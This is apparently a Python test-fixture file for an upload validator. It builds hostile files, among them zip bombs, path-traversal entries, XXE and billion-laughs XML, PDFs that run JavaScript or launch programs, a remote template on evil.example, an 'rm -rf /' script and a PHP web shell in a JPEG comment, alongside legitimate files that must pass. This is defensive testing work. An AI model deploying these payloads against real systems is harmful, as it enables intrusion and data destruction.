"""Files made to harm: (label, name, content or a function that makes it, the code of the refusal)."""

import io
import stat
import struct
import zipfile
import zlib
from functools import cache

from pypdf import PdfReader, PdfWriter

from tests.files.making import OFFICE, PACKAGE, W, content_types, docx, docx_parts, jpg, ofd, pack, pdf, png, xlsx

MB = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def docx_with(entries):
    return pack(docx_parts() | entries)


@cache
def bomb_by_ratio():
    return docx_with({"word/media/a.bin": b"\x00" * (40 * MB)})


@cache
def bomb_by_size():
    return docx_with(
        {f"word/media/{number}.bin": (bytes(range(256)) * 4 + b"\x00" * 16_384) * 1800 for number in range(8)}
    )


def many_entries(count):
    return pack(docx_parts() | {f"word/media/{number}.png": b"" for number in range(count)}, level=zipfile.ZIP_STORED)


def lying_size():
    """The directory and the entry say 10 bytes; 30 MB come out."""
    whole = docx_with({"word/media/lie.bin": b"\x00" * (30 * MB)})
    real = struct.pack("<I", 30 * MB)
    return whole.replace(real, struct.pack("<I", 10))


def overlapping():
    """Two entries of the directory share one stretch of data."""
    whole = docx_with({"word/media/a.bin": b"x" * 1000, "word/media/b.bin": b"y" * 1000})
    data = bytearray(whole)
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        first, second = (archive.getinfo(f"word/media/{name}.bin").header_offset for name in "ab")
    place = data.rfind(struct.pack("<I", second), 0, data.rfind(b"PK\x05\x06"))
    data[place : place + 4] = struct.pack("<I", first)
    return bytes(data)


def symlink():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        link = zipfile.ZipInfo("word/media/passwd")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return target.getvalue()


def duplicate_names():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", "<other/>")
    return target.getvalue()


def packed_with(method):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
    return target.getvalue()


def encrypted_entry():
    data = bytearray(docx())
    for start in (b"PK\x03\x04", b"PK\x01\x02"):
        place = data.find(start) + (6 if start == b"PK\x03\x04" else 8)
        data[place] |= 1
    return bytes(data)


def zip64_claims():
    """A ZIP64 field that declares 2^40 bytes."""
    whole = docx_with({"word/media/big.bin": b"x" * 100})
    directory = whole.rfind(b"PK\x01\x02")
    extra = struct.pack("<HHQ", 1, 8, 1 << 40)
    head = bytearray(whole[directory : directory + 46])
    head[24:28] = b"\xff\xff\xff\xff"
    head[30:32] = struct.pack("<H", len(extra))
    name_length = struct.unpack("<H", head[28:30])[0]
    name = whole[directory + 46 : directory + 46 + name_length]
    end = bytearray(whole[whole.rfind(b"PK\x05\x06") :])
    end[12:16] = struct.pack("<I", struct.unpack("<I", end[12:16])[0] + len(extra))
    return whole[:directory] + bytes(head) + name + extra + bytes(end)


def nested(depth):
    inner = b"end"
    for _ in range(depth):
        inner = pack({"[Content_Types].xml": "<Types/>", "x.bin": inner}, level=zipfile.ZIP_STORED)
    return docx_with({"word/embeddings/a.bin": inner})


def doctype(declaration, encoding="utf-8"):
    xml = f'<?xml version="1.0" encoding="{encoding}"?>{declaration}<w:document xmlns:w="{W}"><w:body/></w:document>'
    return docx_with({"word/document.xml": xml.encode("utf-16" if encoding == "utf-16" else encoding)})


def commented():
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as archive:
        archive.comment = HTML
    return target.getvalue()


def flipped():
    data = docx(("x" * 5000,))
    place = data.find(b"word/document.xml") + 60
    return data[:place] + bytes([data[place] ^ 0xFF]) + data[place + 1 :]


def ofd_with_entity():
    with zipfile.ZipFile(io.BytesIO(ofd())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return pack(parts | {"OFD.xml": f"{EXTERNAL}<OFD>&f;</OFD>"})


ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<!DOCTYPE x [<!ENTITY a0 "haha">{ENTITIES}]>'
EXTERNAL = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'


def relation(kind, target):
    return docx_with(
        {
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r" '
            f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        }
    )


def macro_type():
    return docx_with({"[Content_Types].xml": content_types("application/vnd.ms-word.document.macroEnabled.main+xml")})


def xlsx_with(entries):
    with zipfile.ZipFile(io.BytesIO(xlsx())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return pack(parts | entries)


def million_rows():
    cell = "<row><c t='inlineStr'><is><t>x</t></is></c></row>"
    sheet = f"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>{cell * 1_000_000}</sheetData></worksheet>"
    return xlsx_with({"xl/worksheets/sheet1.xml": sheet})


def encrypted_pdf(password="open", algorithm="RC4-128"):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(password, "owner", algorithm=algorithm)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


@cache
def pdf_bomb():
    """A page whose content unpacks to 200 MB."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(b" " * MB) for _ in range(200)) + packer.flush()
    stream = f"<< /Filter /FlateDecode /Length {len(body)} >>\nstream\n".encode() + body + b"\nendstream"
    return pdf(extra_objects={11: stream})


def pdf_loop():
    return pdf(extra_objects={2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})


SCRIPT = "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH = "/OpenAction << /S /Launch /F (calc.exe) >>"
NAMED_SCRIPT = "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"
ATTACHED = "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /UF (a.exe) >>] >> >>"
ON_CLICK = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x.bat) >> >>]"
HTML = b"<html><script>alert(1)</script></html>"

HOSTILE = [
    # Nothing, too much, something else.
    ("0 bytes", "空.pdf", b"", "empty"),
    ("over 30 MB", "大.pdf", lambda: b"%PDF-1.4" + b"\x00" * (31 * MB), "size"),
    ("program named pdf", "发票.pdf", b"MZ\x90\x00" + b"\x00" * 100, "magic"),
    ("shell script named docx", "说明.docx", b"#!/bin/sh\nrm -rf /", "magic"),
    ("html named pdf", "说明.pdf", HTML, "magic"),
    ("html named xlsx", "台账.xlsx", b"<table><tr><td>1</td></tr></table>", "magic"),
    ("svg named png", "图.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "magic"),
    ("csv named xlsx", "清单.xlsx", "名称,单位\n巡检,某矿\n".encode("gb18030"), "magic"),
    ("xls named xlsx", "清单.xlsx", OLE + b"\x00" * 2000, "magic"),
    ("docx with a password", "报告.docx", OLE + b"\x00" * 512 + "EncryptedPackage".encode("utf-16-le"), "magic"),
    ("png named jpg", "图.jpg", png(), "magic"),
    ("docx named xlsx", "清单.xlsx", docx(), "sheet_docx"),
    ("xlsx named docx", "报告.docx", xlsx(), "not_docx"),
    ("zip named docx", "报告.docx", pack({"a.txt": "x"}), "not_docx"),
    ("docx named ofd", "公文.ofd", docx(), "not_ofd"),
    ("pdf after other bytes", "公文.pdf", b"junk" + pdf(), "magic"),
    # Names.
    ("svg", "图.svg", b"<svg onload='alert(1)'/>", "extension"),
    ("html", "页.html", HTML, "extension"),
    ("old Word", "报告.doc", OLE, "extension"),
    ("macro workbook", "台账.xlsm", xlsx(), "extension"),
    ("archive", "全部.zip", pack({"a": "b"}), "extension"),
    ("no extension", "报告", pdf(), "extension"),
    ("program behind a document's name", "发票.pdf.exe", b"MZ", "extension"),
    ("document behind a program's name", "发票.exe.pdf", pdf(), "double_extension"),
    ("right-to-left override", "发票\u202efdp.exe", b"MZ", "extension"),
    ("NUL in the name", "发票.exe\x00.pdf", pdf(), "double_extension"),
    ("blank after the extension", "发票.exe ", b"MZ", "extension"),
    # Archives.
    ("bomb by ratio", "报告.docx", bomb_by_ratio, "zip_ratio"),
    ("bomb by size", "报告.docx", bomb_by_size, "zip_size"),
    ("million equal rows", "台账.xlsx", million_rows, "zip_ratio"),
    ("2,001 entries", "报告.docx", lambda: many_entries(2001), "zip_entries"),
    ("10,000 entries", "报告.docx", lambda: many_entries(10_000), "zip_entries"),
    ("declared size lies", "报告.docx", lying_size, "damaged"),
    ("overlapping entries", "报告.docx", overlapping, "zip_structure"),
    ("symbolic link", "报告.docx", symlink, "zip_names"),
    ("traversal", "报告.docx", lambda: docx_with({"../../etc/cron.d/x": "x"}), "zip_names"),
    ("absolute name", "报告.docx", lambda: docx_with({"/etc/passwd": "x"}), "zip_names"),
    ("backslash name", "报告.docx", lambda: docx_with({"..\\..\\x": "x"}), "zip_names"),
    ("two entries of one name", "报告.docx", duplicate_names, "zip_structure"),
    ("LZMA", "报告.docx", lambda: packed_with(zipfile.ZIP_LZMA), "zip_structure"),
    ("BZip2", "报告.docx", lambda: packed_with(zipfile.ZIP_BZIP2), "zip_structure"),
    ("encrypted entry", "报告.docx", encrypted_entry, "encrypted"),
    ("ZIP64 claims 1 TB", "报告.docx", zip64_claims, "zip_size"),
    ("nested twice", "报告.docx", lambda: nested(2), "zip_nested"),
    ("program inside", "报告.docx", lambda: docx_with({"word/embeddings/setup.exe": b"MZ"}), "zip_foreign"),
    ("archive inside", "报告.docx", lambda: docx_with({"word/embeddings/a.zip": pack({"a": "b"})}), "zip_foreign"),
    ("bytes after the archive", "报告.docx", docx() + HTML, "zip_structure"),
    ("comment of the archive", "报告.docx", commented, "zip_structure"),
    ("cut off", "报告.docx", docx()[:-200], "damaged"),
    ("broken checksum", "报告.docx", flipped, "damaged"),
    # Office parts.
    ("VBA project", "报告.docx", lambda: docx_with({"word/vbaProject.bin": OLE}), "macros"),
    ("VBA under another case", "报告.docx", lambda: docx_with({"word/VBAPROJECT.BIN": OLE}), "macros"),
    ("docm renamed", "报告.docx", macro_type, "macros"),
    ("VBA in a workbook", "台账.xlsx", lambda: xlsx_with({"xl/vbaProject.bin": OLE}), "macros"),
    ("Excel 4 macro sheet", "台账.xlsx", lambda: xlsx_with({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    ("ActiveX", "报告.docx", lambda: docx_with({"word/activeX/activeX1.xml": "<x/>"}), "macros"),
    (
        "macro in an embedded workbook",
        "报告.docx",
        lambda: docx_with({"word/embeddings/a.xlsx": xlsx_with({"xl/vbaProject.bin": OLE})}),
        "macros",
    ),
    ("remote template", "报告.docx", lambda: relation("attachedTemplate", "https://evil.example/t.dotm"), "fetches"),
    ("remote object", "报告.docx", lambda: relation("oleObject", "file://evil/x"), "fetches"),
    ("XXE", "报告.docx", lambda: doctype(EXTERNAL), "xml_entities"),
    ("XXE in UTF-16", "报告.docx", lambda: doctype(EXTERNAL, "utf-16"), "xml_entities"),
    ("billion laughs", "报告.docx", lambda: doctype(BILLION), "xml_entities"),
    (
        "no document part",
        "报告.docx",
        lambda: pack({"[Content_Types].xml": content_types(f"{OFFICE}.wordprocessingml.document.main+xml")}),
        "damaged",
    ),
    ("XML cut off", "报告.docx", lambda: docx_with({"word/document.xml": "<w:document"}), "damaged"),
    ("scripts in OFD", "公文.ofd", ofd_with_entity, "xml_entities"),
    # PDF.
    ("script on opening", "合同.pdf", pdf(root=SCRIPT), "pdf_active"),
    ("program on opening", "合同.pdf", pdf(root=LAUNCH), "pdf_active"),
    ("named script", "合同.pdf", pdf(root=NAMED_SCRIPT), "pdf_active"),
    ("program on a click", "合同.pdf", pdf(page_extra=ON_CLICK), "pdf_active"),
    ("attachment", "合同.pdf", pdf(root=ATTACHED), "pdf_attachments"),
    ("password", "合同.pdf", encrypted_pdf, "encrypted"),
    ("PDF and web page", "合同.pdf", b"%PDF-1.7\n" + HTML + pdf()[9:], "two_in_one"),
    ("PDF and archive", "合同.pdf", pdf() + pack({"a": "b"}), "two_in_one"),
    ("PDF and program", "合同.pdf", pdf() + b"MZ\x90\x00", "two_in_one"),
    ("without its end", "合同.pdf", pdf()[:200], "damaged"),
    ("no objects", "合同.pdf", b"%PDF-1.7\n%%EOF", "damaged"),
    ("page content unpacks to 200 MB", "合同.pdf", pdf_bomb, "damaged"),
    ("pages that contain themselves", "合同.pdf", pdf_loop, "damaged"),
    # Pictures.
    ("pixel flood, PNG", "图.png", png(60_000, 60_000), "picture_large"),
    ("pixel flood, JPEG", "图.jpg", jpg(65_500, 65_500), "picture_large"),
    ("one side too long", "图.png", png(50_000, 1), "picture_large"),
    ("no width", "图.png", png(0, 8), "damaged"),
    ("PNG and web page", "图.png", png(tail=HTML), "two_in_one"),
    ("PNG with a page in its text", "图.png", png(chunks=[(b"tEXt", b"c\x00" + HTML)]), "two_in_one"),
    ("PNG and archive", "图.png", png(tail=pack({"a": "b"})), "two_in_one"),
    ("JPEG with PHP in its comment", "图.jpg", jpg(comment=b"<?php system($_GET[0]); ?>"), "two_in_one"),
    ("JPEG and program", "图.jpg", jpg(tail=b"MZ\x90\x00" + b"\x00" * 60), "two_in_one"),
    ("GIF and script", "图.gif", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)", "extension"),
    ("GIF named png", "图.png", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)", "magic"),
    ("PNG cut off", "图.png", png()[:40], "damaged"),
    ("JPEG cut off", "图.jpg", jpg()[:30], "damaged"),
]


# Unusual, and honest: these must pass.
HONEST = [
    ("Word file with an embedded workbook", "报告.docx", lambda: docx_with({"word/embeddings/a.xlsx": xlsx()})),
    ("Word file with a hyperlink", "报告.docx", lambda: relation("hyperlink", "https://www.example.com/")),
    (
        "Word file with a formula object",
        "报告.docx",
        lambda: docx_with({"word/embeddings/oleObject1.bin": OLE + b"\x00" * 500}),
    ),
    (
        "Word file with an SVG icon",
        "报告.docx",
        lambda: docx_with({"word/media/icon.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>"}),
    ),
    ("entries stored, not packed", "报告.docx", lambda: packed_with(zipfile.ZIP_STORED)),
    ("1,900 entries", "报告.docx", lambda: many_entries(1900)),
    (
        "workbook of 30,000 rows",
        "台账.xlsx",
        lambda: xlsx([["序号", "名称"], *([number, f"设备{number}"] for number in range(30_000))]),
    ),
    ("electronic invoice with its XML", "发票.pdf", pdf(root=ATTACHED.replace(".exe", ".xml"))),
    ("PDF that only forbids editing", "合同.pdf", lambda: encrypted_pdf("", "AES-256")),
    ("PDF with unpacked text", "合同.pdf", pdf(["合同正文"], packed=False)),
    ("PDF that opens on a page", "合同.pdf", pdf(root="/OpenAction [10 0 R /Fit]")),
    (
        "phone photo with a film behind it",
        "现场.jpg",
        jpg(4000, 3000, tail=b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 500),
    ),
    ("A3 scan at 600 dpi", "扫描.png", png(7016, 9921)),
    ("name with capitals", "扫描件.PDF", pdf()),
    ("two documents' extensions", "合同.docx.pdf", pdf()),
]
